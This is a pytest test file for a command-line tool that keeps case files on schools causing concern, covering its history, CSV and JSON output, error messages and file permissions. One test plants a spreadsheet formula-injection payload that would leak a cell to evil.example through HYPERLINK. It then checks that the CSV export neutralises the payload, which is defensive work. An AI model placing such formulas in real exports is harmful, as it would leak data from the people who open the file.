"""The ``scc`` command line as a user sees it, on an SQLite file.

Every command runs on the test clock (``time-machine`` at 23 November 2026, ticking), the
demo's loading included: what it prints is the same whatever day the tests run."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
import time_machine
from click.testing import CliRunner

from adapters.demo import (
    ACADEMY_URN,
    CONVERTED_URN,
    FEATURED_URN,
    SPECIAL_MEASURES_URN,
)
from cli.main import scc
from tests.fakes import TEST_NOW


def _env(path) -> dict[str, str | None]:
    return {"SCC_DATABASE_URL": f"sqlite:///{path}", "SCC_CATEGORY_SCHEME": "peterborough",
            "SCC_TERM_DATES": None, "SCC_DATA_DIR": None}


@pytest.fixture(scope="module")
def loaded(tmp_path_factory):
    """A store with the demo loaded once, shared by the tests that only read it."""
    env = _env(tmp_path_factory.mktemp("cli") / "scc.sqlite3")
    runner = CliRunner()
    with time_machine.travel(TEST_NOW, tick=True):
        assert runner.invoke(scc, ["init"], env=env).exit_code == 0
        result = runner.invoke(scc, ["demo"], env=env)
    assert result.exit_code == 0, result.output
    return runner, env, result


def _run(loaded, *args: str):
    runner, env, _ = loaded
    with time_machine.travel(TEST_NOW, tick=True):
        return runner.invoke(scc, list(args), env=env)


def _fails_with(result, message: str) -> None:
    assert result.exit_code == 2
    assert f"Error: {message}" in result.stderr
    assert result.stdout == ""
    assert "Traceback" not in result.output


def test_init_creates_the_store_and_says_where_it_is(tmp_path):
    env = _env(tmp_path / "new" / "scc.sqlite3")

    result = CliRunner().invoke(scc, ["init"], env=env)

    assert result.exit_code == 0
    assert f"SQLite file {tmp_path / 'new' / 'scc.sqlite3'}" in result.stdout
    assert "0 case files" in result.stdout
    assert (tmp_path / "new" / "scc.sqlite3").exists()


def test_demo_summary_names_the_featured_school(loaded):
    _, _, result = loaded

    assert "Loaded Fenmarsh (LA 999): 61 case files" in result.stdout
    assert f"URN {FEATURED_URN}" in result.stdout
    assert "Loaded 61 of 61 schools" in result.stderr  # progress, when not on a terminal


def test_schools_json_lists_the_la_with_its_concern_flags(loaded):
    result = _run(loaded, "schools", "--format", "json")

    assert result.exit_code == 0
    schools = {s["urn"]: s for s in json.loads(result.stdout)}
    assert 55 <= len(schools) <= 65
    featured = schools[FEATURED_URN]
    assert featured["causing_concern"] is True
    assert "interim executive board in place" in featured["concern_reasons"]
    assert schools[SPECIAL_MEASURES_URN]["causing_concern"] is True
    assert "Ofsted: special measures" in schools[SPECIAL_MEASURES_URN]["concern_reasons"]
    assert schools[ACADEMY_URN]["predecessor_urn"] == CONVERTED_URN
    assert schools[CONVERTED_URN]["is_open"] is False
    assert any(s["causing_concern"] is False for s in schools.values())
    # dates are ISO strings
    assert featured["la_category_since"][:4].isdigit() and featured["la_category_since"][4] == "-"


def test_schools_table_lines_up_its_columns(loaded):
    result = _run(loaded, "schools")

    lines = result.stdout.splitlines()
    assert lines[0].split()[0] == "URN" and "Causing concern" in lines[0]
    column = lines[0].index("Causing concern")
    rows = [line for line in lines[2:] if line[:6].isdigit()]
    assert 55 <= len(rows) <= 65
    assert {row[column:].strip() for row in rows} == {"yes", "no"}


def test_history_json_tells_the_warning_notice_story_in_order(loaded):
    result = _run(loaded, "history", str(FEATURED_URN), "--format", "json")

    assert result.exit_code == 0
    events = [e["event"] for e in json.loads(result.stdout)]
    story = ["WarningNoticeIssued", "ComplianceRecorded", "InterventionNoticeGiven",
             "BecameEligible", "IEBApplicationDrafted", "IEBConsultationRecorded",
             "IEBApplicationSubmitted", "IEBConsentGiven", "IEBConstituted"]
    positions = [events.index(kind) for kind in story]
    assert positions == sorted(positions)
    entries = json.loads(result.stdout)
    compliance = next(e for e in entries if e["event"] == "ComplianceRecorded")
    assert compliance["details"]["complied"] is False
    assert entries[0]["effective"] == "2010-09-01"
    assert entries[0]["recorded_at"].endswith("+00:00")


def test_history_as_at_leaves_out_what_took_effect_later(loaded):
    full = json.loads(_run(loaded, "history", str(FEATURED_URN), "--format", "json").stdout)
    result = _run(loaded, "history", str(FEATURED_URN), "--as-at", "2025-03-10",
                  "--format", "json")

    assert result.exit_code == 0
    earlier = json.loads(result.stdout)
    assert 0 < len(earlier) < len(full)
    assert all(e["effective"] <= "2025-03-10" for e in earlier)
    kinds = {e["event"] for e in earlier}
    assert "BecameEligible" in kinds and "IEBConstituted" not in kinds
    # the same date written the way the LA writes it
    uk = _run(loaded, "history", str(FEATURED_URN), "--as-at", "10/03/2025", "--format", "json")
    assert json.loads(uk.stdout) == earlier


def test_history_table_shows_corrections_and_the_status(loaded):
    result = _run(loaded, "history", str(FEATURED_URN))

    assert result.exit_code == 0
    assert "[retracted by" in result.stdout and "[amended by" in result.stdout
    assert "Causing concern:  yes" in result.stdout
    assert "IEB:" in result.stdout and "overdue" in result.stdout


def test_history_csv_parses(loaded):
    result = _run(loaded, "history", str(FEATURED_URN), "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert result.exit_code == 0
    # Check: the columns every entry has come first, then a column for each field, in words
    assert list(rows[0])[:9] == ["version", "effective", "recorded_at", "by", "event",
                                 "summary", "retracted", "amended", "by_identity"]
    assert {"Matters the notice is based on", "Minutes", "Actions agreed"} <= set(rows[0])
    assert [int(r["version"]) for r in rows] == list(range(1, len(rows) + 1))
    assert sum(r["retracted"] == "yes" for r in rows) == 1
    assert sum(bool(r["amended"]) for r in rows) == 1
    (notice,) = [r for r in rows if r["event"] == "WarningNoticeIssued"]
    assert notice["Comply by"] == "10 February 2025" and notice["Minutes"] == ""
    assert notice["Copies sent to"].splitlines() == ["Ofsted", "Diocesan Board of Education",
                                                      "Regional Director"]


def test_history_as_known_at_before_anything_was_recorded(loaded):
    result = _run(loaded, "history", str(FEATURED_URN), "--as-known-at", "2010-08-31T17:00")

    _fails_with(result, f"URN {FEATURED_URN} had no case file as known at 31 August 2010")


@pytest.mark.parametrize("moment", ["0001-01-01T00:00+00:00", "0001-01-01T00:00",
                                    "9999-12-31T23:59-12:00"])
def test_history_as_known_at_year_1_or_the_end_of_9999_is_one_line_not_a_traceback(loaded,
                                                                                 moment):
    result = _run(loaded, "history", str(FEATURED_URN), "--as-known-at", moment)

    _fails_with(result, "The record cannot be read as known at ")
    assert result.stderr.endswith(
        ": enter a time from 1 January 1800 to 30 December 9999\n")
    assert result.stderr.count("\n") == 1


def test_history_as_known_at_a_time_shows_what_had_been_recorded_by_then(loaded):
    result = _run(loaded, "history", str(FEATURED_URN), "--as-known-at", "2020-01-01T09:00",
                  "--format", "json")

    assert result.exit_code == 0
    known = json.loads(result.stdout)
    assert known and all(e["recorded_at"] < "2020-01-01T09:00" for e in known)
    assert known[-1]["effective"] > "2019-01-01"  # the demo records as the LA went along


def test_demo_refuses_a_store_that_holds_case_files(loaded):
    result = _run(loaded, "demo")

    _fails_with(result, "The store already holds 61 case files")


def test_demo_if_empty_loads_once_then_does_nothing(tmp_path):
    runner, env = CliRunner(), _env(tmp_path / "scc.sqlite3")

    first = runner.invoke(scc, ["demo", "--if-empty"], env=env)
    second = runner.invoke(scc, ["demo", "--if-empty"], env=env)

    assert first.exit_code == 0 and "Loaded Fenmarsh" in first.stdout
    assert second.exit_code == 0
    assert "already holds 61 case files; demo not loaded" in second.stdout


@pytest.mark.parametrize(("args", "message"), [
    (["history", "12"], "No school with URN 12 has a case file"),
    (["history", "abc"], "'abc' is not a URN"),
    (["history", str(FEATURED_URN), "--as-at", "2024-13-01"],
     "'2024-13-01' is not a date: write it as YYYY-MM-DD, e.g. 2024-03-01"),
    (["history", str(FEATURED_URN), "--as-at", "31/02/2024"], "'31/02/2024' is not a date"),
    (["history", str(FEATURED_URN), "--as-known-at", "garbage"],
     "'garbage' is not a date and time"),
])
def test_mistakes_are_reported_in_words_with_status_2(loaded, args, message):
    _fails_with(_run(loaded, *args), message)


def test_migrate_on_a_new_machine_makes_the_stores_folder_first(tmp_path):
    # As `make run` does on a fresh clone: migrate before anything made data/
    store = tmp_path / "data" / "scc.sqlite3"
    runner = CliRunner()

    migrated = runner.invoke(scc, ["migrate"], env=_env(store))

    assert migrated.exit_code == 0, migrated.output
    assert store.parent.is_dir()
    assert runner.invoke(scc, ["migrate", "--check"], env=_env(store)).exit_code == 0


def test_a_new_store_and_an_exported_log_are_readable_by_their_owner_alone(loaded, tmp_path):
    import os
    import stat

    store = tmp_path / "new" / "scc.sqlite3"
    old_umask = os.umask(0o022)  # the usual one: files 0644 unless made otherwise
    try:
        assert CliRunner().invoke(scc, ["init"], env=_env(store)).exit_code == 0
        exported = _run(loaded, "export-log", str(tmp_path / "log.jsonl.gz"))
        plain = _run(loaded, "export-log", str(tmp_path / "log.jsonl"))
    finally:
        os.umask(old_umask)

    assert exported.exit_code == 0 and plain.exit_code == 0, exported.output + plain.output
    for path in (store, tmp_path / "log.jsonl.gz", tmp_path / "log.jsonl"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(store.parent.stat().st_mode) == 0o755  # the directory is left alone


def test_history_csv_writes_a_name_that_is_a_formula_as_text(tmp_path):
    from datetime import date

    from adapters.bootstrap import build_case_files
    from adapters.config import Settings
    from tests.fakes import FixedClock

    formula = '=HYPERLINK("http://evil.example/?leak="&F3,"Helen Marsh")'
    path = tmp_path / "scc.sqlite3"
    case_files = build_case_files(Settings(database_url=f"sqlite:///{path}"), FixedClock())
    try:
        case_files.register_school(
            by="@SUM(1+1)", effective=date(2010, 9, 1), urn=990101, name="Marsh Lane Primary",
            phase="Primary", establishment_type="Community school", governance="maintained",
            la_code="999", pupils=200)
        case_files.record_visit(990101, kind="monitoring", notes="Termly visit",
                                effective=date(2026, 11, 20), by=formula)
    finally:
        case_files.close()

    result = _run((CliRunner(), _env(path), None), "history", "990101", "--format", "csv")

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["by"] for r in rows] == ["'@SUM(1+1)", "'" + formula]


def test_projections_status_names_a_school_set_aside_and_why(tmp_path):
    from adapters.bootstrap import build_case_files
    from adapters.config import Settings
    from tests.fakes import FixedClock
    from tests.integration.test_projections import HEAD, record_as_an_older_version_did, register

    env = _env(tmp_path / "scc.sqlite3")
    runner = CliRunner()
    assert runner.invoke(scc, ["init"], env=env).exit_code == 0
    case_files = build_case_files(Settings(database_url=env["SCC_DATABASE_URL"]), FixedClock())
    try:
        for urn in (990401, 990402):
            register(case_files, urn)
            case_files.establish_msp_group(urn, by=HEAD, effective=date(2025, 1, 6),
                                           members=["LA adviser"], cadence_weeks=6)
        record_as_an_older_version_did(case_files, 990401, "MSPMeetingScheduled",
                                       meeting_id="M1", meets_on=date(9999, 12, 31))
    finally:
        case_files.close()

    assert runner.invoke(scc, ["projections", "rebuild"], env=env).exit_code == 0
    result = runner.invoke(scc, ["projections", "status"], env=env)

    assert result.exit_code == 0, result.output
    assert "1 school set aside: an entry could not be applied" in result.stdout
    (line,) = [row for row in result.stdout.splitlines() if row.startswith("990401")]
    assert "OverflowError: date value out of range" in line
